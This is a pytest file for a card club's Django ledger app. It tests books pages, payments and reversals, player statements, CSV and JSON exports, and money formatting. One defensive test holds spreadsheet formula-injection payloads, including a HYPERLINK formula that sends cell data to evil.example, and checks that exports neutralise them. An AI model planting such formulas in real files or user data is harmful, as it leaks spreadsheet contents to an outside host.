"""The books pages through Django's test client: who may see them, what they show is the ledger's, a
payment recorded and reversed from the page, a player's own statement, a session's export, and money
formatted by the one formatter with the server's minor units."""

from __future__ import annotations

import csv
import io
import json
import re
from html import unescape
from typing import Any

import pytest

from ledger import followup, selectors
from ledger.currency import money_text, parse_money, units_table
from ledger.models import MoneyTransaction, Player, Role, Session
from ledger.services.clubs import player_create
from ledger.services.sessions import session_close
from ledger.web import books
from tests.ledger_fixtures import AMERICAN_HANDS, fresh, member, open_session, record_all

pytestmark = pytest.mark.django_db


def closed_with_money(admin: Any, club: Any, players: list[Player], currency: str = "USD") -> Session:
    session = open_session(admin, club, players, stake={"currency": currency, "per_counter": "0.01"})
    record_all(admin, session, AMERICAN_HANDS)
    session_close(actor=admin, session_id=session.pk, expected_version=fresh(session).version)
    followup.followup_run(session_id=session.pk)
    return fresh(session)  # money [-30, -115, 90, 55]


@pytest.mark.parametrize(
    ("cents", "currency", "kwargs", "text"),
    [
        (-123456, "USD", {}, "\u22121,234.56"),
        (5, "KWD", {"signed": True}, "+0.005"),
        (1200, "JPY", {}, "1,200"),
        (-123456, "EUR", {"grouped": False, "minus": "-"}, "-1234.56"),
        (0, "EUR", {"signed": True}, "0.00"),
    ],
)
def test_the_one_money_formatter(cents: int, currency: str, kwargs: dict[str, Any], text: str) -> None:
    assert money_text(cents, currency, **kwargs) == text


def test_amounts_typed_in_the_currency() -> None:
    assert [parse_money(t, c) for t, c in [("12.50", "EUR"), ("12,5", "EUR"), ("1,234", "JPY"), ("0.125", "KWD")]] == [
        1250,
        1250,
        1234,
        125,
    ]
    for text, currency in [("", "EUR"), ("1.234", "EUR"), ("12.5", "JPY"), ("-3", "EUR"), ("x", "USD")]:
        with pytest.raises(ValueError):
            parse_money(text, currency)
    assert units_table()["JPY"] == 0 and units_table()["default"] == 2


def test_the_books_are_for_treasurers_and_show_the_ledger(
    client_for: Any, admin: Any, club: Any, players: list[Player], treasurer: Any, player_user: Any, other_admin: Any
) -> None:
    session = closed_with_money(admin, club, players)
    assert client_for(player_user).get(f"/clubs/{club.pk}/books/").status_code == 403
    assert client_for(other_admin).get(f"/clubs/{club.pk}/books/").status_code == 404
    page = client_for(treasurer).get(f"/clubs/{club.pk}/books/")
    assert page.status_code == 200
    html = page.content.decode()
    assert 'data-currency="USD"' in html
    ledger = books.club_books(user=treasurer, club_id=club.pk)
    assert [(b.name, b.balance) for b in ledger.currencies[0].balances] == [
        ("Ann", -30),
        ("Ben", -115),
        ("Cleo", 90),
        ("Dan", 55),
    ]
    assert ledger.currencies[0].owed == 145
    assert len(ledger.currencies[0].transfers) <= 3
    assert f'href="/players/{players[0].pk}/statement/"' in html
    assert session.pk


def test_a_payment_recorded_and_reversed_from_the_page(
    client_for: Any, admin: Any, club: Any, players: list[Player], treasurer: Any
) -> None:
    ann, _ben, cleo, _dan = players
    closed_with_money(admin, club, players)
    client = client_for(treasurer)
    url = f"/clubs/{club.pk}/books/"
    form = {"action": "pay", "from": ann.pk, "to": cleo.pk, "currency": "USD", "status": "partly_paid", "note": "cash"}
    asked = client.post(url, {**form, "amount": "0.31"})  # Ann owes Cleo 0.30 overall: asked, not refused
    assert asked.status_code == 400
    html = asked.content.decode()
    assert 'id="pay-confirm" role="alert" data-confirm="overpay"' in html and "minor units" not in html
    assert "Ann's balance goes from \u2212$0.30 to +$0.01, Cleo's from +$0.90 to +$0.59" in unescape(html)
    assert 'value="0.31"' in html  # what was typed is kept
    decimals = client.post(url, {**form, "amount": "0.205"})
    assert decimals.content.decode().count("US dollars have 2 decimals") == 1
    assert 'aria-invalid="true" aria-describedby="pay-amount-errors"' in decimals.content.decode()
    assert not MoneyTransaction.objects.filter(kind="partly_paid").exists()
    done = client.post(url, {**form, "amount": "0.20"}, follow=True)
    tx = MoneyTransaction.objects.get(kind="partly_paid")
    assert (tx.note, tx.created_by, tx.entries.get(amount__gt=0).amount) == ("cash", treasurer, 20)
    assert f"Recorded: Ann \u2192 Cleo: $0.20 (payment #{tx.pk})." in done.content.decode()
    unconfirmed = client.post(url, {"action": "reverse", "transaction": tx.pk, "note": "wrong person"}, follow=True)
    assert "Nothing reversed: tick the box" in unconfirmed.content.decode()  # issue 38: asked first
    assert not MoneyTransaction.objects.filter(reverses=tx).exists()
    reversed_ = client.post(
        url, {"action": "reverse", "transaction": tx.pk, "note": "wrong person", "confirm": "yes"}, follow=True
    )
    html = reversed_.content.decode()
    assert f"Payment #{tx.pk} is reversed." in html
    assert "wrong person" in html and "is-reversed" in html
    assert MoneyTransaction.objects.get(reverses=tx).note == "wrong person"
    again = client.post(url, {"action": "reverse", "transaction": tx.pk, "confirm": "yes"}, follow=True)
    assert "already reversed" in again.content.decode()


def test_a_player_sees_his_own_statement_only(
    client_for: Any, admin: Any, club: Any, player_user: Any, treasurer: Any
) -> None:
    players = [
        player_create(actor=admin, club_id=club.pk, name=n, user=player_user if n == "Ben" else None)
        for n in ("Ann", "Ben", "Cleo", "Dan")
    ]
    mine = players[1]
    closed_with_money(admin, club, players)
    client = client_for(player_user)
    page = client.get(f"/players/{mine.pk}/statement/")
    assert page.status_code == 200
    html = page.content.decode()
    assert 'data-cents="-115"' in html and f"/players/{mine.pk}/statement.csv" in html
    assert client.get(f"/players/{players[0].pk}/statement/").status_code == 403
    assert f'href="/players/{mine.pk}/statement/"' in client.get(f"/clubs/{club.pk}/").content.decode()
    assert client_for(treasurer).get(f"/players/{players[0].pk}/statement/").status_code == 200


def test_the_settlement_says_how_much_of_the_evening_is_paid(
    client_for: Any, admin: Any, club: Any, players: list[Player], treasurer: Any
) -> None:
    session = closed_with_money(admin, club, players)
    html = client_for(treasurer).get(f"/sessions/{session.pk}/settlement/").content.decode()
    assert 'id="evening-paid" data-paid="0" data-owed="145"' in html


def test_a_session_exports_as_its_sheet_and_as_csv(
    client_for: Any, admin: Any, club: Any, players: list[Player], player_user: Any, other_admin: Any
) -> None:
    session = closed_with_money(admin, club, players)
    client = client_for(player_user)
    exported = client.get(f"/sessions/{session.pk}/export.json")
    assert exported["Content-Disposition"] == f'attachment; filename="session-{session.pk}.json"'
    assert json.loads(exported.content) == selectors.session_sheet(session=session)
    body = client.get(f"/sessions/{session.pk}/export.csv").content.decode("utf-8")
    assert body.startswith("\ufeff")  # a spreadsheet reads it as UTF-8
    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))
    assert rows[0][:11] == [
        "Deal",
        "Dealer",
        "Double deal",
        "Bidder",
        "Partner",
        "Bid",
        "Trump",
        "Turned",
        "Honours",
        "Jack of diamonds (\u2666J)",
        "Conceded",
    ]
    assert rows[0][11:15] == ["Ann: tricks", "Ben: tricks", "Cleo: tricks", "Dan: tricks"]
    assert len(rows) == 1 + len(AMERICAN_HANDS)
    assert [int(x) for x in rows[1][11:15]] == AMERICAN_HANDS[0]["tricks"]  # each seat's tricks in its own column
    assert [int(x) for x in rows[-1][rows[0].index("Ann: total") : rows[0].index("Dan: total") + 1]] == fresh(
        session
    ).balances
    assert client_for(other_admin).get(f"/sessions/{session.pk}/export.csv").status_code == 404


def test_the_leaderboard_offers_the_clubs_currencies_most_used_first(
    client_for: Any, admin: Any, club: Any, players: list[Player]
) -> None:
    closed_with_money(admin, club, players, "EUR")
    closed_with_money(admin, club, players, "JPY")
    closed_with_money(admin, club, players, "JPY")
    assert books.club_currencies(user=admin, club_id=club.pk) == ["JPY", "EUR"]
    html = client_for(admin).get(f"/clubs/{club.pk}/").content.decode()
    assert html.index('value="JPY"') < html.index('value="EUR"')
    assert member(club, admin, "p2", Role.PLAYER)


@pytest.mark.parametrize(("language", "amount"), [("en", "1.15"), ("fr", "1,15"), ("ru", "1,15")])
def test_a_settlement_link_fills_the_payment_as_the_language_writes_it(
    client_for: Any, admin: Any, club: Any, players: list[Player], treasurer: Any, language: str, amount: str
) -> None:
    """The 'record' link of a settlement fills the amount; on a French page 1,15, not 1.15."""
    closed_with_money(admin, club, players)
    query = f"?from={players[1].pk}&to={players[2].pk}&cents=115&currency=USD"
    html = client_for(treasurer).get(f"/clubs/{club.pk}/books/{query}", HTTP_ACCEPT_LANGUAGE=language).content.decode()
    assert f'id="pay-amount" inputmode="decimal" required autocomplete="off" size="10" value="{amount}"' in html


def record_link_queries(html: str) -> list[str]:
    return [
        unescape(q) for q in re.findall(r'class="no-print record-link" href="/clubs/\d+/books/\?([^"#]+)#record"', html)
    ]


def test_each_transfer_is_recorded_from_the_settlements_links_and_only_those_count(
    client_for: Any, admin: Any, club: Any, players: list[Player], treasurer: Any
) -> None:
    _ann, ben, _cleo, dan = players
    session = closed_with_money(admin, club, players)
    client = client_for(treasurer)
    settlement = f"/sessions/{session.pk}/settlement/"
    html = client.get(settlement).content.decode()
    assert "This evening's transfers as printed" in unescape(html)
    queries = record_link_queries(html)
    assert len(queries) == 3 and all(f"session={session.pk}" in q for q in queries)
    client.post(
        f"/clubs/{club.pk}/books/",
        {"action": "pay", "from": ben.pk, "to": dan.pk, "amount": "0.55", "currency": "USD", "status": "paid"},
    )  # free: not this evening's
    assert 'data-paid="0" data-owed="145"' in client.get(settlement).content.decode()
    for query in queries:
        page = client.get(f"/clubs/{club.pk}/books/?{query}").content.decode()
        assert 'id="pay-evening"' in page
        fields = dict(re.findall(r'<input type="hidden" name="(key|session)" value="([^"]*)"', page))
        amount = re.search(r'id="pay-amount"[^>]* value="([^"]*)"', page).group(1)
        params = dict(p.split("=") for p in query.split("&"))
        done = client.post(
            f"/clubs/{club.pk}/books/",
            {
                "action": "pay",
                "from": params["from"],
                "to": params["to"],
                "currency": "USD",
                "status": "paid",
                "amount": amount,
                **fields,
            },
        )
        assert done.status_code == 302, unescape(done.content.decode())
    html = client.get(settlement).content.decode()
    assert 'data-paid="145" data-owed="145"' in html and record_link_queries(html) == []
    assert MoneyTransaction.objects.filter(for_session=session).count() == 3


def test_the_same_form_twice_records_once_and_another_tab_is_asked_first(
    client_for: Any, admin: Any, club: Any, players: list[Player], treasurer: Any
) -> None:
    _ann, ben, cleo, _dan = players
    closed_with_money(admin, club, players)
    client = client_for(treasurer)
    url = f"/clubs/{club.pk}/books/"
    form = {"action": "pay", "from": ben.pk, "to": cleo.pk, "currency": "USD", "status": "paid", "amount": "0,20"}
    first_key, second_key = (
        re.search(r'name="key" value="([^"]+)"', client.get(url).content.decode()).group(1) for _ in range(2)
    )
    assert first_key != second_key  # a key per rendered form
    assert client.post(url, {**form, "key": first_key}).status_code == 302
    assert client.post(url, {**form, "key": first_key}).status_code == 302  # posted twice: one payment
    assert MoneyTransaction.objects.filter(kind="paid").count() == 1
    asked = client.post(url, {**form, "key": second_key})
    assert asked.status_code == 400 and 'data-confirm="duplicate"' in asked.content.decode()
    assert MoneyTransaction.objects.filter(kind="paid").count() == 1
    assert client.post(url, {**form, "key": second_key, "duplicate_ok": "yes"}).status_code == 302
    assert MoneyTransaction.objects.filter(kind="paid").count() == 2


@pytest.mark.parametrize(
    ("language", "typed", "cents"),
    [
        ("fr", "0,10", 10),
        ("ru", "0,10", 10),
        ("fr", "1\u202f000,50", 100050),
        ("ru", "1 000,50", 100050),
        ("en", "1,000.50", 100050),
        ("fr", "0,105", None),
        ("ru", "0,105", None),
        ("en", "0.105", None),
    ],
)
def test_amounts_as_each_language_types_them(
    client_for: Any,
    admin: Any,
    club: Any,
    players: list[Player],
    treasurer: Any,
    language: str,
    typed: str,
    cents: int | None,
) -> None:
    _ann, ben, cleo, _dan = players
    closed_with_money(admin, club, players, "EUR")
    form = {
        "action": "pay",
        "from": ben.pk,
        "to": cleo.pk,
        "currency": "EUR",
        "status": "paid",
        "amount": typed,
        "overpay": "yes",
    }
    answer = client_for(treasurer).post(f"/clubs/{club.pk}/books/", form, HTTP_ACCEPT_LANGUAGE=language)
    if cents is None:
        assert answer.status_code == 400
        html = answer.content.decode()
        assert f'value="{typed}"' in html and 'aria-invalid="true"' in html  # kept, and named at the field
        assert (
            html.index('id="pay-amount"') < html.index('class="field-errors"') < html.index('id="pay-currency"') + 400
        )
        assert not MoneyTransaction.objects.filter(kind="paid").exists()
    else:
        assert answer.status_code == 302
        assert MoneyTransaction.objects.get(kind="paid").entries.get(amount__gt=0).amount == cents


def test_money_pages_and_exports_are_never_stored(
    client_for: Any, admin: Any, club: Any, players: list[Player], treasurer: Any
) -> None:
    session = closed_with_money(admin, club, players)
    client = client_for(treasurer)
    for url in [
        f"/clubs/{club.pk}/books/",
        f"/sessions/{session.pk}/settlement/",
        f"/players/{players[0].pk}/statement/",
        f"/sessions/{session.pk}/export.csv",
        f"/sessions/{session.pk}/export.json",
        f"/api/v1/players/{players[0].pk}/statement/?format=csv",
    ]:
        response = client.get(url)
        assert response.status_code == 200, url
        assert "no-store" in response.get("Cache-Control", ""), url


def test_every_csv_escapes_what_a_spreadsheet_would_run(
    client_for: Any, admin: Any, club: Any, players: list[Player], treasurer: Any
) -> None:
    """Issue 29, point 1: a name or a note that starts like a formula is text in every CSV, page or API."""
    session = closed_with_money(admin, club, players)
    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "-Infinity", "+nan", "@SUM(A1)"]
    for player, name in zip(players, hostile, strict=True):
        Player.objects.filter(pk=player.pk).update(name=name)
    client = client_for(treasurer)
    client.post(
        f"/clubs/{club.pk}/books/",
        {
            "action": "pay",
            "from": players[1].pk,
            "to": players[2].pk,
            "amount": "0.10",
            "currency": "USD",
            "status": "paid",
            "note": "=1+2",
            "session": session.pk,
        },
    )
    exports = [
        client.get(f"/sessions/{session.pk}/export.csv"),
        client.get(f"/players/{players[1].pk}/statement.csv"),
        client.get(f"/api/v1/players/{players[1].pk}/statement/?format=csv"),
    ]
    for response in exports:
        assert response.status_code == 200
        cells = [c for row in csv.reader(io.StringIO(response.content.decode().removeprefix("\ufeff"))) for c in row]
        starts = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
        assert starts == [], starts
        assert not [c for c in cells if c.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?", c)]
    assert "'-Infinity" in exports[0].content.decode() and "'=1+2" in exports[1].content.decode()


def test_a_statement_in_two_currencies_a_table_each_in_the_same_order_as_its_csv(
    client_for: Any, admin: Any, club: Any, players: list[Player], treasurer: Any
) -> None:
    closed_with_money(admin, club, players, "USD")
    closed_with_money(admin, club, players, "EUR")
    closed_with_money(admin, club, players, "USD")
    client = client_for(treasurer)
    ben = players[1]
    html = client.get(f"/players/{ben.pk}/statement/", HTTP_ACCEPT_LANGUAGE="fr").content.decode()
    tables = re.findall(r'<section class="statement-currency" id="statement-([A-Z]{3})"', html)
    assert tables == ["EUR", "USD"]
    body = client.get(f"/players/{ben.pk}/statement.csv", HTTP_ACCEPT_LANGUAGE="fr").content.decode()
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff")), delimiter=";"))
    assert rows[0] == ["Monnaie", "Date", "Quoi", "Montant", "Solde", "Séance", "Note"]  # headers in words, in French
    assert [r[0] for r in rows[1:]] == ["EUR", "USD", "USD"]  # the page's order: a currency after the other
    assert [r[3] for r in rows[1:]] == ["-1,15", "-1,15", "-1,15"] and [r[4] for r in rows[1:]][-1] == "-2,30"
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", r[1]) for r in rows[1:])
